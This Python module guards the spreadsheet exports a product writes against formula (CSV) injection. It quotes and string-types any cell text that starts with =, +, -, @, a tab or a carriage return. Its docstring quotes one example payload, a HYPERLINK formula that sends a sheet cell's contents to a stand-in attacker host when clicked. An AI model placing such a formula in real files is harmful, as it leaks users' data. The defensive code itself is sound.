"""Cells of the CSV and XLSX files the product writes, safe from formula injection (OWASP's "CSV injection").

Names, titles and notes come from people and from the platform; a spreadsheet program runs a cell that starts
with = + - @, a tab or a carriage return as a formula (`=HYPERLINK("http://evil.example/?d="&D20,"Open")`
sends the sheet's data away when clicked). Every cell of every export goes through `cell_value_neutralise`:
such text gets a leading single quote, and `xlsx_cell_write` also stores it as a string cell, which no
program evaluates. Numbers, dates and booleans are left as they are (a negative number is a number), and so
is text that is only a number (`-12`, `+7.5`), which no program can run.
"""

from __future__ import annotations

import re
from datetime import date
from datetime import datetime
from datetime import time
from datetime import timedelta
from decimal import Decimal
from fractions import Fraction
from typing import Any

# Text that a spreadsheet takes for a formula when it starts a cell (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
_KEPT_TYPES = (bool, int, float, Decimal, Fraction, date, datetime, time, timedelta)


def cell_value_neutralise(value: Any) -> Any:
    """Return the value as a spreadsheet cell should hold it: text that would start a formula gets a leading «'».

    None, numbers, dates and booleans are returned as they are; anything else is written as its text.
    """
    if value is None or isinstance(value, _KEPT_TYPES):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def _xlsx_value(value: Any) -> Any:
    value = cell_value_neutralise(value)
    return float(value) if isinstance(value, Fraction) else value


def xlsx_cell_write(sheet, *, row: int, column: int, value: Any):
    """Write the neutralised value into the openpyxl sheet's cell and return the cell; text is a string cell."""
    value = _xlsx_value(value)
    cell = sheet.cell(row=row, column=column, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # never a formula, whatever the text starts with
    return cell


def xlsx_row_append(sheet, values: list[Any]) -> None:
    """Append a row of neutralised values below the sheet's last row, as `sheet.append` does; text as strings."""
    sheet.append([_xlsx_value(value) for value in values])
    if values:
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
